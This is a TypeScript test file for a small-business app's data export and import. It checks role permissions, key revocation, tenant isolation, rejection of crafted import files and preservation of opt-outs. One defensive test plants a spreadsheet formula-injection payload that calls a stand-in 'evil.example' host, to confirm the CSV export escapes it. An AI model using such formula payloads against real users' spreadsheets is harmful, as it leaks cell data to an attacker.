/**
 * Who may take a business's data and what an import file may do: members and techs are refused,
 * a key outlives its maker's demotion but not their reach, each business exports only its own
 * rows, and a crafted or stranger's file is a 400 (or a 409 into a business with clients) with
 * nothing written, neither in the business nor in the registry.
 */
import { env, SELF } from 'cloudflare:test'
import { strFromU8, unzipSync } from 'fflate'
import { describe, expect, it } from 'vitest'
import { Staff } from './helpers/browserless'
import { api, BASE, createClient, createOrg, type TestOrg, unique } from './helpers/factories'
import { teammate } from './helpers/team'

type Doc = Record<string, unknown> & { organization: Record<string, unknown> }
type Row = Record<string, unknown>

async function exportOf(org: TestOrg): Promise<Doc> {
  const res = await api(org, 'GET', '/api/v1/export.json')
  expect(res.status).toBe(200)
  return res.json<Doc>()
}

/** A small business: one client with an email, phone and address, and a booked visit. */
async function smallBusiness() {
  const org = await createOrg()
  const email = `pat-${unique()}@example.com`
  const client = await createClient(org, {
    first_name: 'Pat',
    last_name: 'Doe',
    email,
    phone: `+1415557${String(1000 + Math.floor(Math.random() * 8999))}`,
    address: { address1: '2 Oak St', city: 'Oakland', state: 'CA', postal: '94607' },
  })
  const res = await api(org, 'POST', '/api/v1/jobs', {
    org_client_id: client.org_client_id,
    start_at: '2031-05-01T16:00:00Z',
    notify: false,
  })
  expect(res.status).toBe(201)
  return { org, client, email }
}

async function signIn(email: string, password: string) {
  const staff = new Staff()
  await staff.post('/login', { email, password })
  return staff
}

/** A teammate of the given role, signed in. */
async function signedInTeammate(org: TestOrg, role: 'member' | 'tech' | 'admin') {
  const id = await teammate(org, { role })
  const { items } = await (await api(org, 'GET', '/api/v1/team')).json<{
    items: { user_id: string; email: string }[]
  }>()
  return { id, staff: await signIn(items.find((m) => m.user_id === id)!.email, 'tech password 1') }
}

/** What the registry holds for a business: people it holds and consent records. */
async function registryOf(organizationId: string) {
  const held = await env.PEOPLE.prepare('select count(*) as n from org_people where organization_id = ?')
    .bind(organizationId)
    .first<{ n: number }>()
  const consents = await env.PEOPLE.prepare('select count(*) as n from point_consents where organization_id = ?')
    .bind(organizationId)
    .first<{ n: number }>()
  return { held: held!.n, consents: consents!.n }
}

async function clientsOf(org: TestOrg) {
  return (await (await api(org, 'GET', '/api/v1/clients')).json<{ items: unknown[] }>()).items
}

describe('who may export', () => {
  it('lets owners and admins download both files from Settings, and refuses members and techs (403)', async () => {
    const org = await createOrg()
    const owner = await signIn(org.email, org.password)
    const page = await (await owner.get('/app/settings')).text()
    expect(page).toContain('href="/app/settings/export.json"')
    expect(page).toContain('href="/app/settings/export.zip"')
    const json = await owner.get('/app/settings/export.json')
    expect(json.status).toBe(200)
    expect((await json.json<Doc>()).organization['id']).toBe(org.organizationId)
    expect((await owner.get('/app/settings/export.zip')).status).toBe(200)

    const admin = await signedInTeammate(org, 'admin')
    expect((await admin.staff.get('/app/settings/export.json')).status).toBe(200)
    for (const role of ['member', 'tech'] as const) {
      const { staff } = await signedInTeammate(org, role)
      expect((await staff.get('/app/settings/export.json')).status, role).toBe(403)
      expect((await staff.get('/app/settings/export.zip')).status, role).toBe(403)
      expect(await (await staff.get('/app/settings')).text()).not.toContain('/app/settings/export.json')
    }
  })

  it('refuses an API key whose maker is no longer an owner or admin, on export and import', async () => {
    const org = await createOrg()
    expect((await api(org, 'GET', '/api/v1/export.json')).status).toBe(200)
    const next = await teammate(org, { role: 'admin' })
    expect((await api(org, 'PATCH', `/api/v1/team/${next}`, { role: 'owner' })).status).toBe(200)
    expect((await api(org, 'PATCH', `/api/v1/team/${org.userId}`, { role: 'member' })).status).toBe(200)
    // The key stops with its maker's reach: not found as a key any more (401), on export as anywhere.
    expect((await api(org, 'GET', '/api/v1/export.json')).status).toBe(401)
    expect((await api(org, 'GET', '/api/v1/export.zip')).status).toBe(401)
    expect((await api(org, 'POST', '/api/v1/import.json', {})).status).toBe(401)
    expect((await api(null, 'GET', '/api/v1/export.json')).status).toBe(401)
  })

  it("exports only the calling business's rows", async () => {
    const mine = await smallBusiness()
    const theirs = await smallBusiness()
    const text = await (await api(mine.org, 'GET', '/api/v1/export.json')).text()
    expect(text).toContain(mine.email)
    expect(text).toContain(mine.client.org_client_id)
    expect(text).not.toContain(theirs.email)
    expect(text).not.toContain(theirs.client.org_client_id)
    expect(text).not.toContain(theirs.org.organizationId)
  })
})

describe('POST /api/v1/import.json refuses a bad file with nothing written', () => {
  const cases: Array<[string, (doc: Doc, stranger: { client: string }) => void, string]> = [
    ['another format', (d) => void (d['format'] = 'jobber-export'), 'format'],
    ['a newer version', (d) => void (d['version'] = 2), 'version'],
    [
      'a huge string',
      (d) => void ((d['client_cards'] as Row[])[0]!['first_name'] = 'x'.repeat(30_000)),
      'client_cards.0.first_name',
    ],
    [
      'a column the table does not have',
      (d) => void ((d['clients'] as Row[])[0]!['organization_id'] = 'org_x'),
      'clients.0',
    ],
    [
      'a job of a client the file does not have',
      (d) => void ((d['jobs'] as Row[])[0]!['org_client_id'] = 'missing'),
      'jobs.0.org_client_id',
    ],
    [
      "a job naming another business's client",
      (d, s) => void ((d['jobs'] as Row[])[0]!['org_client_id'] = s.client),
      'jobs.0.org_client_id',
    ],
    ['a client without its card', (d) => void (d['client_cards'] = []), 'clients.0.person_id'],
    [
      'two clients with one id',
      (d) => void (d['clients'] as Row[]).push({ ...(d['clients'] as Row[])[0]! }),
      'clients.1',
    ],
    [
      'a card whose email is not one',
      (d) => void ((d['client_cards'] as Row[])[0]!['primary_email'] = 'not an email'),
      'client_cards.0.primary_email',
    ],
    [
      'consent for a number on no card of the file',
      (d) =>
        void (d['consents'] = [
          {
            point: '+14155550199',
            opt_in: true,
            marketing_opt_in: true,
            opted_in_at: null,
            reason: 'x',
            updated_at: '2030-01-01T00:00:00Z',
          },
        ]),
      'consents.0.point',
    ],
  ]

  it.each(cases)('refuses %s (400 naming it)', async (_, craft, path) => {
    const { org } = await smallBusiness()
    const stranger = await smallBusiness()
    const doc = await exportOf(org)
    craft(doc, { client: stranger.client.org_client_id })
    const target = await createOrg()
    const res = await api(target, 'POST', '/api/v1/import.json', doc)
    expect(res.status).toBe(400)
    const body = await res.json<{ error: { code: string; issues: Array<{ path: string }> } }>()
    expect(body.error.code).toBe('invalid_input')
    expect(body.error.issues.map((i) => i.path).join(' ')).toContain(path)
    expect(await clientsOf(target)).toEqual([])
    expect(await registryOf(target.organizationId)).toEqual({ held: 0, consents: 0 })
    // The stranger's business is as it was.
    expect((await api(stranger.org, 'GET', `/api/v1/clients/${stranger.client.org_client_id}`)).status).toBe(200)
  })

  it('reads an export bigger than the 1 MB of other JSON bodies, and refuses one past 11 MB (413)', async () => {
    const target = await createOrg()
    const padded = (bytes: number) =>
      JSON.stringify({ format: 'homebase-export', version: 99, padding: 'x'.repeat(bytes) })
    const post = (body: string) =>
      SELF.fetch(`${BASE}/api/v1/import.json`, {
        method: 'POST',
        headers: { authorization: `Bearer ${target.apiKey}`, 'content-type': 'application/json' },
        body,
      })
    const big = await post(padded(3 * 1024 * 1024))
    // Read and checked (the version is wrong), not cut off by the body limit.
    expect(big.status).toBe(400)
    const huge = await post(padded(12 * 1024 * 1024))
    expect(huge.status).toBe(413)
    expect(await clientsOf(target)).toEqual([])
  })

  it('refuses a file of more rows than one import takes, before checking them', async () => {
    const target = await createOrg()
    const doc = {
      format: 'homebase-export',
      version: 1,
      organization: {},
      events: Array.from({ length: 150_001 }, () => ({})),
    }
    const res = await api(target, 'POST', '/api/v1/import.json', doc)
    expect(res.status).toBe(400)
    expect(JSON.stringify(await res.json())).toContain('one import takes at most 150000')
    expect(await clientsOf(target)).toEqual([])
  })

  it('refuses a body that is not JSON', async () => {
    const target = await createOrg()
    const res = await api(target, 'POST', '/api/v1/import.json', undefined, { 'content-type': 'application/json' })
    expect(res.status).toBe(400)
  })

  it('refuses a business that already has clients (409), and a second import of the same file', async () => {
    const { org } = await smallBusiness()
    const doc = await exportOf(org)
    const busy = await smallBusiness()
    const before = await exportOf(busy.org)
    const res = await api(busy.org, 'POST', '/api/v1/import.json', doc)
    expect(res.status).toBe(409)
    expect(await res.json()).toMatchObject({
      error: { code: 'conflict', message: expect.stringContaining('new business') },
    })
    const after = await exportOf(busy.org)
    expect(after['clients']).toEqual(before['clients'])

    const fresh = await createOrg()
    expect((await api(fresh, 'POST', '/api/v1/import.json', doc)).status).toBe(201)
    expect((await api(fresh, 'POST', '/api/v1/import.json', doc)).status).toBe(409)
    expect(await clientsOf(fresh)).toHaveLength(1)
  })

  it("imports a copy whose rows are the new business's own: the exporting business is untouched", async () => {
    const { org, client } = await smallBusiness()
    const doc = await exportOf(org)
    const copy = await createOrg()
    expect((await api(copy, 'POST', '/api/v1/import.json', doc)).status).toBe(201)
    expect(
      (await api(copy, 'PATCH', `/api/v1/clients/${client.org_client_id}`, { first_name: 'Changed' })).status,
    ).toBe(200)
    const original = await (await api(org, 'GET', `/api/v1/clients/${client.org_client_id}`)).json<{
      first_name: string
    }>()
    expect(original.first_name).toBe('Pat')
    expect((await exportOf(org))['clients']).toEqual(doc['clients'])
  })
})

describe('what an import writes about reaching people', () => {
  it("stores a card's phones and emails as the app writes them, so the file's own spelling cannot dodge an opt-out", async () => {
    const { org } = await smallBusiness()
    const doc = await exportOf(org)
    const card = (doc['client_cards'] as Row[])[0]!
    const e164 = String(card['primary_phone_e164'])
    const spaced = `+1 ${e164.slice(2, 5)} ${e164.slice(5, 8)} ${e164.slice(8)}`
    card['primary_phone_e164'] = spaced
    card['phones'] = [spaced]
    card['emails'] = [String(card['primary_email']).toUpperCase()]
    doc['consents'] = [
      {
        point: spaced,
        opt_in: false,
        marketing_opt_in: false,
        opted_in_at: null,
        reason: 'STOP',
        updated_at: '2030-01-01T00:00:00Z',
      },
    ]
    const target = await createOrg()
    expect((await api(target, 'POST', '/api/v1/import.json', doc)).status).toBe(201)
    const [client] = (await clientsOf(target)) as Row[]
    const shown = await (await api(target, 'GET', `/api/v1/clients/${client!['org_client_id']}`)).json<Row>()
    expect(shown).toMatchObject({ primary_phone_e164: e164, consents: { sms_opt_in: false } })
    const stored = await env.PEOPLE.prepare('select point, opt_in from point_consents where organization_id = ?')
      .bind(target.organizationId)
      .all<{ point: string; opt_in: number }>()
    expect(stored.results).toEqual([{ point: e164, opt_in: 0 }])
  })

  it('never raises an opt-out the business already had', async () => {
    const { org } = await smallBusiness()
    const doc = await exportOf(org)
    const phone = String((doc['client_cards'] as Row[])[0]!['primary_phone_e164'])
    doc['consents'] = [
      {
        point: phone,
        opt_in: true,
        marketing_opt_in: true,
        opted_in_at: '2020-01-01T00:00:00Z',
        reason: 'signed form',
        updated_at: '2030-01-01T00:00:00Z',
      },
    ]
    const target = await createOrg()
    await env.PEOPLE.prepare(
      "insert into point_consents (organization_id, point, opt_in, marketing_opt_in, reason, updated_at) values (?, ?, 0, 0, 'STOP', '2026-01-01T00:00:00Z')",
    )
      .bind(target.organizationId, phone)
      .run()
    expect((await api(target, 'POST', '/api/v1/import.json', doc)).status).toBe(201)
    const row = await env.PEOPLE.prepare(
      'select opt_in, marketing_opt_in, reason from point_consents where organization_id = ? and point = ?',
    )
      .bind(target.organizationId, phone)
      .first()
    expect(row).toEqual({ opt_in: 0, marketing_opt_in: 0, reason: 'STOP' })
  })
})

describe('the zip export', () => {
  it('writes text a spreadsheet would run as a formula with a leading apostrophe', async () => {
    const org = await createOrg()
    await createClient(org, {
      first_name: '=HYPERLINK("https://evil.example/?"&B2,"Open")',
      last_name: '@SUM(1)',
      email: `f-${unique()}@example.com`,
    })
    const res = await api(org, 'GET', '/api/v1/export.zip')
    expect(res.status).toBe(200)
    const cards = strFromU8(unzipSync(new Uint8Array(await res.arrayBuffer()))['client_cards.csv']!)
    expect(cards).toContain(`"'=HYPERLINK(""https://evil.example/?""&B2,""Open"")"`)
    expect(cards).toContain(`'@SUM(1)`)
    expect(cards).not.toMatch(/(^|,)=HYPERLINK/m)
  })
})
